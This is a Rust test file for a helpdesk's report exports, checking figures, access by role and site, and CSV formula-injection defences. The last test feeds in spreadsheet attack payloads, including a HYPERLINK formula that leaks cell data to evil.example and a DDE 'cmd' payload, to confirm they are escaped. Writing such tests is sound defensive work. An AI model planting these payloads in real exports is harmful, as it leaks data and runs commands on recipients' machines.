//! What a lead looks at, and what leaves as a table.

use std::{
    io::Write,
    process::{Command, Stdio},
};

use cornerdesk_tests::{
    Database, Service,
    client::a_submission_with,
    on_both_databases,
    service::{SITE, Setup},
};
use serde_json::json;

use crate::people::{OTHER_SITE, two_sites};

/// The rows of a table as Python's own reader finds them.
fn read_by_python(table: &str) -> Vec<Vec<String>> {
    let program = "import csv, io, json, sys\ntext = sys.stdin.buffer.read().decode('utf-8-sig')\nprint(json.dumps(list(csv.reader(io.StringIO(text, newline='')))))";
    let mut python = Command::new("/usr/bin/python3")
        .args(["-c", program])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("python3 can be run");
    let mut input = python.stdin.take().expect("a pipe");
    input.write_all(table.as_bytes()).expect("it reads");
    drop(input);
    let output = python.wait_with_output().expect("it ends");
    serde_json::from_slice(&output.stdout).expect("a list of rows")
}

const METEORAGE: &str = "policy = \"meteorage\"\noverlay = \"meteorage-fr\"\n";

on_both_databases! {
    async fn figures_are_the_same_on_the_page_and_in_both_files(database: Database) {
        let service = Service::start_with(Setup::new(database).site_setting(METEORAGE)).await;
        let staff = service.sign_in_staff().await;
        let empty = staff.get("/desk/reports").await;
        assert_eq!(empty.status, 200);
        assert!(empty.text.contains("No ticket came in these days"), "{}", empty.text);
        let submission = a_submission_with(json!({ "category": "technical_assistance" }));
        let answered = service.client().submit(&submission).await.reference();
        service.command(&["ticket", "classify", &answered, "--priority", "high", "--by", "Kim"]);
        service.command(&["ticket", "answered", &answered, "--by", "Kim"]);
        let submission = a_submission_with(json!({ "category": "technical_assistance" }));
        service.client().submit(&submission).await.reference();

        let page = staff.get("/desk/reports").await.text;
        assert!(page.contains("2 tickets") && page.contains("100 % "), "{page}");
        let report = staff.get(&format!("/desk/reports.json?site={SITE}")).await.json();
        assert_eq!(report["first_response"]["met"], 1, "{report}");
        assert_eq!(report["first_response"]["without_promise"]["unclassified"], 1, "{report}");
        let days = report["days"].as_array().expect("days");
        assert_eq!((days.len(), days.iter().filter_map(|day| day["received"].as_u64()).sum::<u64>()), (28, 2));
        assert_eq!(report["times"][0]["priority"], "high", "{report}");
        let table = staff.get("/desk/reports.csv").await;
        assert_eq!(table.header("content-type"), Some("text/csv; charset=utf-8; header=present"));
        assert!(table.text.contains("\r\nfirst answer,met,1\r\n"), "{}", table.text);
        for query in ["from=x&to=&site=nobody", "from=9999-12-31&to=9999-12-31", "from=-9999-01-01&to=9999-12-31", "from=2026-11-22&to=2020-01-01"] {
            for path in ["/desk/reports", "/desk/reports.csv", "/desk/reports.json", "/desk/reports/tickets.csv"] {
                assert_eq!(staff.get(&format!("{path}?{query}")).await.status, 200, "{path} {query}");
            }
        }
    }

    async fn reports_are_for_leads_and_of_their_sites(database: Database) {
        let service = two_sites(database).await;
        service.client().submit(&a_submission_with(json!({}))).await.reference();
        service.client().at_site(OTHER_SITE).submit(&a_submission_with(json!({ "summary": "Of the other site" }))).await.reference();
        for (arguments, seen) in [
            (&["--role", "admin"][..], Some(2)),
            (&["--role", "lead", "--site", SITE], Some(1)),
            (&["--role", "agent"], None),
        ] {
            let staff = service.sign_in_as(&format!("s{}@acme.example", seen.unwrap_or(0)), arguments).await;
            let report = staff.get("/desk/reports.json").await;
            let Some(seen) = seen else {
                for path in ["/desk/reports", "/desk/reports.csv", "/desk/reports.json", "/desk/reports/tickets.csv"] {
                    assert_eq!(staff.get(path).await.status, 403, "{path}");
                }
                continue;
            };
            assert_eq!(report.json()["by_status"]["new"], seen, "{}", report.text);
            let others = staff.get(&format!("/desk/reports/tickets.csv?site={OTHER_SITE}")).await;
            assert_eq!(others.text.contains("Of the other site"), seen == 2, "{}", others.text);
        }
        let log = service.sign_in_as("chief@acme.example", &["--role", "admin"]).await.get("/desk/audit").await.text;
        assert_eq!(log.matches("Took tickets along as a table").count(), 2, "{log}");
    }

    async fn what_a_stranger_writes_is_no_formula_in_a_table(database: Database) {
        let service = Service::start_with(Setup::new(database)).await;
        let staff = service.sign_in_staff().await;
        for summary in ["=HYPERLINK(\"http://evil.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2", "@SUM(1)", "＝1+1", "\"=1+1\"", "two; =1+1", "Fine, really"] {
            service.client().submit(&a_submission_with(json!({ "summary": summary }))).await.reference();
        }
        let table = staff.get("/desk/reports/tickets.csv").await;
        assert!(table.header("content-disposition").is_some_and(|value| value.starts_with("attachment; ")));
        let mut rows = csv::Reader::from_reader(table.text.trim_start_matches('\u{feff}').as_bytes());
        let cells: Vec<String> = rows.records().flat_map(|row| row.expect("a row").iter().map(str::to_owned).collect::<Vec<_>>()).collect();
        assert_eq!(cells.len(), 8 * 11);
        assert_eq!(read_by_python(&table.text)[1..].concat(), cells, "another reader finds the same cells");
        // Of a program that takes semicolons for the ends of cells, too.
        let parts = cells.iter().flat_map(|cell| cell.split(';'));
        let formulas: Vec<_> = parts.filter(|cell| cell.trim_start_matches(['"', ' ']).starts_with(['=', '+', '-', '@', '＝'])).collect();
        assert!(formulas.is_empty(), "{formulas:?}");
        assert!(cells.contains(&"'=HYPERLINK(\"http://evil.example/?\"&A1)".to_owned()) && cells.contains(&"Fine, really".to_owned()));
    }
}
